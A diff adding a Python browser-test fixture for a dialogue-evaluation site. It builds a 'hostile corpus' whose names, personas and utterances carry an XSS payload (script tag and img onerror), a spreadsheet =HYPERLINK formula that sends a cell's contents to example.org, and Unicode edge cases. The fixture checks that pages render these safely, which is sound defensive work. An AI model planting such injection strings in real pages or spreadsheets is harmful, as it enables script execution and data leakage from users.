@@ -1,0 +1,83 @@
+"""What browser tests look at: a site with the demo and a hostile corpus, scored, with a web server and a worker."""
+
+from __future__ import annotations
+
+import json
+from dataclasses import dataclass
+from pathlib import Path
+
+from tests.site import Site
+
+SCORED = "word_f1,bleu_4,rouge_l"
+LONG_WORD = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerk" * 6
+HOSTILE_TEXTS = (
+    "<script>document.title = 'taken over'</script><img src=x onerror=\"document.title='taken over'\">",
+    '=HYPERLINK("http://example.org/?"&A1,"click me")',
+    LONG_WORD,
+    "\N{HEBREW LETTER SHIN}\N{HEBREW LETTER LAMED}\N{HEBREW LETTER VAV}\N{HEBREW LETTER MEM} (left?) "
+    "\N{RIGHT-TO-LEFT OVERRIDE}backwards",
+    "\N{WAVING HAND SIGN}\N{EMOJI MODIFIER FITZPATRICK TYPE-5} \N{FAMILY} \N{REGIONAL INDICATOR SYMBOL LETTER J}"
+    "\N{REGIONAL INDICATOR SYMBOL LETTER P} e\N{COMBINING ACUTE ACCENT}",
+)
+
+
+@dataclass(frozen=True)
+class Stage:
+    site: Site
+    address: str
+
+
+def set_up(site: Site) -> Stage:
+    """Scored in this process and before the worker starts; what tests score themselves goes through the worker."""
+    site.python("from dialeval_site.demo import load_demo; load_demo()")
+    hostile = site.home / "hostile.jsonl"
+    write_hostile_corpus(hostile)
+    site.manage("import_corpus", "jsonl", hostile, "--slug", "hostile")
+    for slug in ("demo", "hostile"):
+        site.manage("score", "--corpus", slug, "--metrics", SCORED, "--inline")
+    site.start_worker()
+    return Stage(site, site.start_web())
+
+
+def write_hostile_corpus(path: Path) -> None:
+    """Every text that a file can hold says something that a page must not obey: names, personas, utterances."""
+    markup, _, word, *_ = HOSTILE_TEXTS
+    systems = [f"<b>bold</b> & {LONG_WORD[:120]}", "=1+1", "\N{SNOWMAN} quiet"]
+    records: list[dict[str, object]] = [
+        {"type": "corpus", "name": f"Hostile <i>corpus</i> {LONG_WORD[:60]}", "description": f"{markup} {word}"},
+        *({"type": "system", "name": name, "description": markup} for name in systems),
+        {"type": "rater", "name": markup[:60]},
+        {"type": "rater", "name": "second"},
+    ]
+    for dialogue in range(3):
+        turns = [
+            {
+                "number": number,
+                "context": [
+                    {"speaker": "A", "text": text},
+                    {"speaker": "B", "text": text},
+                    {"speaker": "A", "text": text},
+                ],
+                "references": [text],
+            }
+            for number, text in enumerate(HOSTILE_TEXTS)
+        ]
+        name = f"<u>{dialogue}</u>{LONG_WORD[:50]}"
+        records.append(
+            {"type": "dialogue", "id": name, "persona": [markup, word], "partner_persona": [word], "turns": turns}
+        )
+        for number, text in enumerate(HOSTILE_TEXTS):
+            for place, system in enumerate(systems):
+                item = {"dialogue_id": name, "turn": number, "system": system}
+                records.append({"type": "response", **item, "text": text if place < 2 else ""})
+                records += [
+                    {
+                        "type": "rating",
+                        **item,
+                        "rater": rater,
+                        "aspect": "overall",
+                        "score": 1 + (number + place + n) % 5,
+                    }
+                    for n, rater in enumerate((markup[:60], "second"))
+                ]
+    path.write_text("".join(json.dumps(record) + "\n" for record in records), encoding="utf-8")
